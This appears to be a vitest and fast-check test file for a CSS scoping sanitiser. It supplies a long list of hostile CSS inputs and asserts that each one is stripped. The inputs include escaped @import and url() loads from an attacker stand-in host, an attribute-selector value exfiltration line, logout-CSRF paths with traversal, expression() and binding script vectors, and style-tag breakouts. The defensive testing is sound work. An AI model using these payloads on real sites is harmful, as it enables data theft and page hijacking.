@@ -1,0 +1,251 @@
+import fc from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import { scopeCss } from '../../platform/content/css.ts'
+
+const scope = '.content-post-42'
+const scoped = (css: string) => scopeCss(css, scope)
+
+type Rule = { selectors: string[]; declarations: string[] }
+
+/** Reads scoped CSS line by line, as it is written; a line that is no part of that form is an error. */
+function rulesOf(css: string): Rule[] {
+  const rules: Rule[] = []
+  let isKeyframes = false
+  for (const line of css.split('\n')) {
+    if (/^@(media|supports) .*\{$/.test(line) || line === '}' || line === '') continue
+    if (/^@(-[a-z]+-)?keyframes content-post-42-[\w-]+ \{$/.test(line)) isKeyframes = true
+    else if (line.endsWith(' {'))
+      rules.push({ selectors: isKeyframes && /^(from|to|[\d.]+%)/.test(line) ? [] : [line], declarations: [] })
+    else rules.at(-1)?.declarations.push(line)
+  }
+  return rules
+}
+
+const expectHarmless = (css: string) => {
+  expect(css).not.toMatch(/@import|@font-face|@charset|@namespace|@layer|@property|@container|<\/|evil/i)
+  for (const { selectors, declarations } of rulesOf(css)) {
+    for (const selector of selectors) {
+      expect(selector).toMatch(/^\.content-post-42(?![\w-])/)
+      expect(selector).not.toMatch(/^\.content-post-42[^\s,>]*\s*[+~|]/)
+    }
+    for (const declaration of declarations) {
+      expect(declaration).not.toMatch(/^position: (?!static|relative|absolute|initial|unset)/i)
+      expect(declaration).not.toMatch(/expression|behavior|binding|javascript/i)
+      expect(declaration).not.toMatch(/url\((?!["']?(\/files\/|data:image\/(png|jpeg|gif|webp);))/i)
+    }
+  }
+}
+
+const hostile: readonly string[] = [
+  '@import "https://evil.test/x.css";',
+  '@import url(//evil.test/x.css) screen;',
+  '@\\69mport "https://evil.test/x.css";',
+  '@charset "utf-7"; @namespace svg url(https://evil.test);',
+  '@font-face{font-family:x;src:url(https://evil.test/x.woff)}',
+  '@layer x{header{display:none}}',
+  '@property --x{syntax:"*";inherits:true;initial-value:url(https://evil.test)}',
+  '@container (min-width:1px){header{display:none}}',
+  '@document url(https://evil.test){a{color:red}}',
+  '@page{background:url(https://evil.test)}',
+  'a{background:url(https://evil.test/x)}',
+  'a{background:URL("//evil.test/x")}',
+  'a{background:\\75rl(https://evil.test/x)}',
+  'a{background:u\\72 l(https://evil.test/x)}',
+  'a{background:url(\\68ttps://evil.test/x)}',
+  'a{background:image-set("https://evil.test/x" 1x)}',
+  'a{background:-webkit-image-set(url(https://evil.test/x) 1x)}',
+  'a{background:image("https://evil.test/x")}',
+  'a{background:cross-fade(url(https://evil.test/x),red)}',
+  'a{background:src("https://evil.test/x")}',
+  'a{list-style-image:url(/api/auth/logout)}',
+  'a{background:url(/files/../api/auth/logout)}',
+  'a{background:url(/files/%2e%2e/api/auth/logout)}',
+  'a{background:url(data:text/html,evil)}',
+  'a{background:url("data:image/svg+xml,%3Csvg onload=evil%3E")}',
+  'a{cursor:url(https://evil.test/x.cur),auto}',
+  'a{filter:url(https://evil.test/x.svg#a)}',
+  'a{content:url(https://evil.test/x)}',
+  'a{--x:url(https://evil.test/x);background:var(--x)}',
+  'input[value^=a]{background:url(https://evil.test/a)}',
+  'a{position:fixed;inset:0}',
+  'a{position:FIXED!important}',
+  'a{position:fi\\78 ed}',
+  'a{p\\6f sition:fixed}',
+  'a{position:-webkit-sticky}',
+  'a{position:sticky}',
+  'a{position:fi/**/xed}',
+  'a{position:/**/fixed}',
+  'a{--p:fixed;position:var(--p)}',
+  'a{position:inherit}',
+  '@keyframes a{to{position:fixed}}',
+  'a{width:expression(alert(1))}',
+  'a{width:e\\78pression(alert(1))}',
+  'a{behavior:url(/files/x.htc)}',
+  'a{-ms-behavior:url(/files/x.htc)}',
+  'a{-moz-binding:url(/files/x.xml#a)}',
+  'a{background:url(javascript:alert(1))}',
+  '.content-post-42{contain:none;isolation:auto;all:initial}',
+  'body + header, html ~ div, :root + *{display:none}',
+  '.content-post-42 + header{display:none}',
+  '.content-post-42 ~ header{display:none}',
+  '.content-post-42.x:hover ~ header{display:none}',
+  'html:not(x) ~ header{display:none}',
+  '+ header{display:none}',
+  '& + header{display:none}',
+  'a{:not(&){display:none}}',
+  'a{& ~ b{display:none}}',
+  'a{color:red;}} header{display:none} b{',
+  'a{content:"\n} header{display:none} b{content:"}',
+  "a{content:'\r} header{display:none} b{content:'}",
+  'a{content:"\\\n} header{display:none} b{content:"}',
+  'a{color:red\\} header{display:none}',
+  'a[x="\n] header{display:none} b["]{color:red}',
+  '/* } header{display:none} /* */ a{color:red}',
+  '<!-- header{display:none} --> a{color:red}',
+  '</style><script>evil()</script>',
+  'a{content:"</style><script>evil()</script>"}',
+  'a{--x:{position:fixed};color:red}',
+  'a{--x:};header{display:none}',
+  'a{background:url(/files/a"b.png);color:red}',
+  'a{background:url(/files/a.png) url( https://evil.test/x )}',
+  '\ufeff@import "https://evil.test/x.css";',
+  '@media x;header{display:none}',
+  '@media screen{@import "https://evil.test/x.css";header{display:none}}',
+  '@supports (a:url("https://evil.test")){a{color:red}}',
+  '@media (x:"\n){}header{display:none}@media (y"){}',
+  'a{view-transition-name:x}',
+  '/*# sourceMappingURL=/etc/passwd */a{color:red}',
+]
+
+describe('hostile CSS', () => {
+  it('covers at least 30 vectors', () => {
+    expect(new Set(hostile).size).toBeGreaterThanOrEqual(30)
+  })
+
+  it.each(hostile.map((css) => [css]))('stays in its box: %j', (css) => {
+    expectHarmless(scoped(css).css)
+    expectHarmless(scoped(`b{color:blue}\n${css}\ni{color:green}`).css)
+  })
+
+  it.each(hostile.map((css) => [css]))('gives the same when scoped again: %j', (css) => {
+    const once = scoped(css).css
+    expect(scoped(once)).toEqual({ css: once, removed: [] })
+  })
+})
+
+describe('CSS of an article', () => {
+  it('is put below its scope, selector by selector', () => {
+    expect(scoped('h2, .card > p:first-child::before, * { color: red !important }').css).toBe(
+      '.content-post-42 h2, .content-post-42 .card > p:first-child::before, .content-post-42 * {\ncolor: red !important;\n}\n',
+    )
+  })
+
+  it('means the article where it says html, body or :root', () => {
+    const { css, removed } = scoped(':root{--gap:1rem} html body{margin:0} body.dark .card{color:#fff}')
+    expect(css).toBe(
+      '.content-post-42 {\n--gap: 1rem;\n}\n.content-post-42 {\nmargin: 0;\n}\n.content-post-42.dark .card {\ncolor: #fff;\n}\n',
+    )
+    expect(removed).toEqual([])
+  })
+
+  it('keeps media, supports and its own pictures', () => {
+    const { css, removed } = scoped(
+      '@media (400px <= width) and (orientation: landscape) { @supports (display: grid) { a { background: url("/files/ab/x%20y.png") } } }',
+    )
+    expect(css).toContain(
+      '@media (400px <= width) and (orientation: landscape) {\n@supports (display: grid) {\n.content-post-42 a {',
+    )
+    expect(css).toContain('url("/files/ab/x%20y.png")')
+    expect(removed).toEqual([])
+  })
+
+  it('renames its animations and what uses them', () => {
+    const { css } = scoped(
+      '@keyframes turn { from { top: 0 } to { top: 1px } } p { animation: 1s turn, other 2s; animation-name: turn }',
+    )
+    expect(css).toContain('@keyframes content-post-42-turn {')
+    expect(css).toContain('animation: 1s content-post-42-turn, other 2s;')
+    expect(css).toContain('animation-name: content-post-42-turn;')
+  })
+
+  it('keeps quoted text, escapes and calculations', () => {
+    const css = 'p{content:"\\201C } {";grid-template-areas:"a b"\n"c d";width:calc(100% - (2px + 1px));margin:-1px}'
+    expect(scoped(css).removed).toEqual([])
+    expect(scoped(css).css).toContain('content: "\\201C } {";')
+  })
+
+  it('names what was dropped in words', () => {
+    expect(
+      scoped('@import "x"; a{position:fixed;background:url(//x)} body + p{color:red} b{i{color:red}}').removed,
+    ).toEqual(['@import', 'position: fixed', 'address outside this site', 'selector body + p', 'nested rule'])
+  })
+
+  it('that cannot be read is reported with its line, not thrown', () => {
+    expect(scoped('a{color:red}\nb{color:blue')).toEqual({
+      css: '',
+      removed: ['everything, because it cannot be read (Unclosed block, line 2)'],
+    })
+    expect(scoped('@media x{'.repeat(9000) + '}'.repeat(9000)).css).toBe('')
+    expect(scoped('a{'.repeat(30_000)).css).toBe('')
+  })
+
+  it('has a scope of one class only', () => {
+    expect(() => scopeCss('a{}', 'body, .x')).toThrow('a scope is one class name')
+  })
+})
+
+const piece = fc.constantFrom(
+  'a',
+  '.b',
+  ' ',
+  ' > ',
+  '+',
+  '~',
+  ',',
+  ':root',
+  'body',
+  'html',
+  scope,
+  '{',
+  '}',
+  ';',
+  'color',
+  ':',
+  'red',
+  'position',
+  'fixed',
+  '"',
+  "'",
+  '\\',
+  '\n',
+  '/*',
+  '*/',
+  '@media x',
+  '@import ',
+  '@keyframes k',
+  'url(',
+  ')',
+  '(',
+  '[',
+  ']',
+  '!important',
+  '--x',
+  '&',
+  '<',
+  'header',
+  '%',
+  '0',
+)
+
+describe('scoping', () => {
+  it('never throws, never leaves the scope and gives the same again, whatever the text', () => {
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
+        const { css } = scoped(`a{color:red} ${pieces.join('')} }`)
+        expectHarmless(css)
+        expect(scoped(css).css).toBe(css)
+      }),
+      { numRuns: 3000 },
+    )
+  })
+})
